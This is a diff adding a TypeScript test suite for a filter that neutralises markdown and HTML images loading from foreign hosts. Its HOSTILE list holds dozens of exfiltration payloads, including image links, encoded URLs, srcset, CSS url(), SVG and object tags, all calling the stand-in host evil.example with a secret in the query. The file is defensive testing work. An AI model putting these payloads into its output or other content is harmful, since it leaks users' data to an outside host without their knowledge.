@@ -1,0 +1,152 @@
+import { marked } from 'marked';
+import { PictureFilter, withoutForeignPictures } from './picture-filter.js';
+
+const EVIL = 'https://evil.example/p?d=secret';
+
+/** What a client would load by itself from elsewhere: the addresses in what a renderer that allows tags makes of it. */
+function loaded(markdown: string): string[] {
+  const html = marked.parse(markdown, { async: false });
+  const tags = html.match(/<[a-z][^>]*(?:"[^"]*"[^>]*|'[^']*'[^>]*)*>/gi) ?? [];
+  return tags.filter(
+    (tag) => !/^<a\s/i.test(tag) && /evil/.test(tag) && /\b(src|srcset|style|href|data|poster)\s*=/i.test(tag),
+  );
+}
+
+function inPieces(text: string, sizeOf: () => number): string {
+  const filter = new PictureFilter();
+  let told = '';
+  for (let at = 0; at < text.length;) {
+    const size = sizeOf();
+    told += filter.push(text.slice(at, at + size));
+    at += size;
+  }
+  return told + filter.end();
+}
+
+const HOSTILE = [
+  `![x](${EVIL})`,
+  `![](<${EVIL}>)`,
+  `Look!!![x](${EVIL})`,
+  `[r]: ${EVIL}\n\n![x]![r](${EVIL})`,
+  `![x]( ${EVIL} "title")`,
+  `![x](\n${EVIL})`,
+  `![x](//evil.example/p)`,
+  `![x](/\\evil.example/p)`,
+  `![x](https&colon;//evil.example)`,
+  `![x](&#47;/evil.example)`,
+  `![x](ht\\tps://evil.example)`,
+  `![x][r]\n\n[r]: ${EVIL}`,
+  `![r][]\n\n[r]: ${EVIL}`,
+  `![r]\n\n[r]: ${EVIL}`,
+  `[r]: ${EVIL}\n\n![r] ![R ]`,
+  `> [ß]: ${EVIL}\n\n![SS]`,
+  `![a\nb]\n\n[A B]: ${EVIL}`,
+  `[![x](${EVIL})](/own)`,
+  `![a ![b](${EVIL}) c](/media/own.png)`,
+  `![\`]\`](${EVIL})`,
+  `![a\\]b](${EVIL})`,
+  `![<b>]</b>](${EVIL})`,
+  `\\\\![x](${EVIL})`,
+  `- \`\`\`\n![x](${EVIL})`,
+  `  \`\`\`\n  a\n  \`\`\`\n![x](${EVIL})\n\`\`\`\n`,
+  `<div>\n\`\`\`\n\n![x](${EVIL})\n`,
+  `<!--\n\n\`\`\`\n-->\n![x](${EVIL})\n`,
+  `\`\`\` a\`b\n![x](${EVIL})`,
+  `\`\`\`\`\n\`\`\`\n\`\`\`\`\n![x](${EVIL})`,
+  `\`\n\`![x](${EVIL})\``,
+  `<img src="${EVIL}">`,
+  `<IMG/SRC='${EVIL}'/>`,
+  `<img alt=">" src=${EVIL}>`,
+  `<img\nsrcset="/a 1x, ${EVIL} 2x">`,
+  `<picture><source srcset="${EVIL}"><img src=/own></picture>`,
+  `<p style="background: url(${EVIL})">x</p>`,
+  `<p style="background:u\\72l(${EVIL})">x</p>`,
+  `<style>p{background:url(${EVIL})}</style>`,
+  `<svg><image xlink:href="${EVIL}"/><use href='${EVIL}#a'/></svg>`,
+  `<object data="${EVIL}"></object><embed src=${EVIL}>`,
+  `<link rel=prefetch href="${EVIL}">`,
+  `<video poster="${EVIL}"></video>`,
+  `<img src="&#104;ttps://evil.example">`,
+];
+
+const HARMLESS = [
+  'Plain words! [A link](https://example.com) and <https://example.com>.',
+  '![Sales [2024]](/media/charts/a.png?token=x&expires=9) and ![](images/b.png)',
+  'In Rust `vec![1, 2]`, vec![] or assert![a]; in JS if (![1, 2].includes(x)) {}',
+  '```md\n![x](https://example.com/x.png)\n<img src="https://example.com/x.png">\n```\nDone!',
+  '~~~\n![x][y]\n~~~\n\n[y]: https://example.com',
+  'Escaped \\![x](y), a < b, List<String>, <br>, the tag `<img>` and <b>bold</b>.',
+  '<img src="/media/own.png?token=a&expires=1" alt="ours"> <p style="color: red">x</p>',
+  '![x](data:image/png;base64,iVBORw0KGgo=)',
+  '[1]: https://example.com "A source"\n\nSee [this][1]. Costs $5!\n\n| a | b |\n|---|---|\n',
+  'Wow!\n\n# Title!\n\n1. one!\n2. two [x]\n- [ ] task!',
+  'Ends with a mark!',
+  'Ends with ![',
+];
+
+describe('PictureFilter', () => {
+  it.each(HOSTILE.map((text) => [text]))('lets nothing be loaded from elsewhere by %j', (text) => {
+    expect(loaded(withoutForeignPictures(text))).toEqual([]);
+  });
+
+  it('would be needed: these do load', () => {
+    expect(HOSTILE.filter((text) => loaded(text).length > 0).length).toBeGreaterThan(HOSTILE.length / 2);
+  });
+
+  it.each(HARMLESS.map((text) => [text]))('leaves %j as it is', (text) =>
+    expect(withoutForeignPictures(text)).toBe(text),
+  );
+
+  it('makes a link of a picture, which says where it leads', () => {
+    expect(withoutForeignPictures(`See ![the *plan*](${EVIL}).`)).toBe(`See [the *plan*](${EVIL}).`);
+    expect(withoutForeignPictures(`<img src="${EVIL}">`)).toBe(`&lt;img src="${EVIL}">`);
+  });
+
+  it('gives the same for any pieces, for whatever is put together, and twice', () => {
+    let seed = 20_261_123;
+    const random = (below: number): number => {
+      seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
+      return seed % below;
+    };
+    const parts = [
+      ...HOSTILE,
+      ...HARMLESS,
+      '\n',
+      '\n\n',
+      '`',
+      '```\n',
+      '\n```\n',
+      '> ',
+      '- ',
+      '    ',
+      '[',
+      ']',
+      '(',
+      '!',
+      '\\',
+      '<',
+      '"',
+      '$$\n',
+    ];
+    for (let round = 0; round < 1_500; round += 1) {
+      const text = Array.from({ length: 1 + random(6) }, () => parts[random(parts.length)]!).join(
+        ['', '\n', ' '][random(3)],
+      );
+      const whole = withoutForeignPictures(text);
+      expect([text, inPieces(text, () => 1)]).toEqual([text, whole]);
+      expect([text, inPieces(text, () => 1 + random(9))]).toEqual([text, whole]);
+      expect([text, withoutForeignPictures(whole)]).toEqual([text, whole]);
+      expect([text, loaded(whole)]).toEqual([text, []]);
+    }
+  });
+
+  it('holds no more back than it has to', () => {
+    const filter = new PictureFilter();
+    expect(filter.push('Hello, ')).toBe('Hello, ');
+    expect(filter.push('world! ')).toBe('world! ');
+    expect(filter.push('![')).toBe('');
+    expect(filter.push('x'.repeat(3_000)).length).toBeGreaterThan(2_000);
+    expect(filter.push(' <a href="').length).toBeGreaterThan(0);
+    expect(filter.end()).toBe('<a href="');
+  });
+});
